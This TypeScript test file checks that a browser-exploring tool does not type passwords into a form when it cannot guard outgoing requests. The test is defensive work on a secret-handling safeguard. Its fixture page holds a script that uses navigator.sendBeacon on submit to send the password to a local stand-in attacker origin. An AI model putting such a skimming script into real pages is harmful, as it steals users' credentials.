import { createServer, type Server } from "node:http"
import type { AddressInfo } from "node:net"
import type { BrowserDriver } from "@sextant/core"
import { type AttackerOrigin, startAttackerOrigin } from "@sextant/fixture-site"
import { WebdriverioDriver } from "@sextant/webdriverio"
import { Effect, ManagedRuntime } from "effect"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { explore } from "../src/index.ts"

/**
 * The explorer on a browser whose requests cannot be guarded (here a real headless Chromium over a
 * BiDi session, as a grid's or a remote one's): a sign-in page beacons the password to another origin
 * on submit, which only the request guard would stop. By default the explorer does not fill that
 * form; with `allowUnguardedSecrets` it does, and the other origin gets the password.
 */

const EMAIL = "alice@example.com"
const PASSWORD = "unguarded-explore-77"
let attacker: AttackerOrigin
let beaconing: { url: string; server: Server }
let runtime: ManagedRuntime.ManagedRuntime<BrowserDriver, unknown>

beforeAll(async () => {
  attacker = await startAttackerOrigin()
  const page = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head><body>
<h1>Sign in</h1>
<form method="post" action="/signed-in" aria-label="Sign in" id="login-form">
<label for="email">Email</label><input type="email" name="email" id="email" autocomplete="username" required>
<label for="password">Password</label><input type="password" name="password" id="password" autocomplete="current-password" required>
<p><button type="submit" id="login-btn">Sign in</button></p>
</form>
<script>
document.querySelector("#login-form").addEventListener("submit", () => {
  navigator.sendBeacon(${JSON.stringify(`${attacker.url}/collect`)}, document.querySelector("#password").value)
})
</script></body></html>`
  const server = createServer((request, response) => {
    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
    response.end(request.url === "/signed-in" ? "<h1>Signed in</h1>" : page)
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()))
  beaconing = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
  runtime = ManagedRuntime.make(WebdriverioDriver.layer({ bidi: true }))
  await runtime.runPromise(Effect.void)
}, 60_000)

afterAll(async () => {
  await runtime?.dispose()
  await attacker?.close()
  beaconing?.server.closeAllConnections()
  await new Promise<void>((resolve) => (beaconing ? beaconing.server.close(() => resolve()) : resolve()))
})

const exploreSignIn = async (allowUnguardedSecrets: boolean | undefined) => {
  const since = attacker.requests.length
  const map = await runtime.runPromise(
    explore(`${beaconing.url}/`, {
      maxDepth: 0,
      maxPages: 1,
      submitForms: true,
      values: { Email: EMAIL, Password: PASSWORD },
      ...(allowUnguardedSecrets === undefined ? {} : { allowUnguardedSecrets }),
    }),
  )
  // A beacon sent on unload may arrive late.
  await new Promise((resolve) => setTimeout(resolve, 300))
  const sent = attacker.requests
    .slice(since)
    .map((request) => `${request.method} ${request.url} ${request.body}`)
  return { map, sent }
}

describe("explore on a browser whose requests cannot be guarded", () => {
  it("does not fill a form that holds a secret, says why, and the other origin gets nothing", async () => {
    const { map, sent } = await exploreSignIn(undefined)
    expect(sent.filter((line) => line.includes(PASSWORD))).toEqual([])
    const reasons = map.skipped.map((entry) => entry.reason)
    expect(
      reasons.some((reason) => reason.includes("not filled: the browser's requests cannot be guarded")),
    ).toBe(true)
    expect(reasons.some((reason) => reason.includes("allowUnguardedSecrets: true"))).toBe(true)
  }, 60_000)

  it("fills it with allowUnguardedSecrets: true, and then nothing stops the beacon", async () => {
    const { map, sent } = await exploreSignIn(true)
    // What the default keeps from the other origin.
    expect(sent.some((line) => line.startsWith("POST /collect") && line.includes(PASSWORD))).toBe(true)
    expect(
      map.skipped.some((entry) =>
        entry.reason.includes("requests were not guarded while secrets were typed"),
      ),
    ).toBe(true)
  }, 60_000)
})
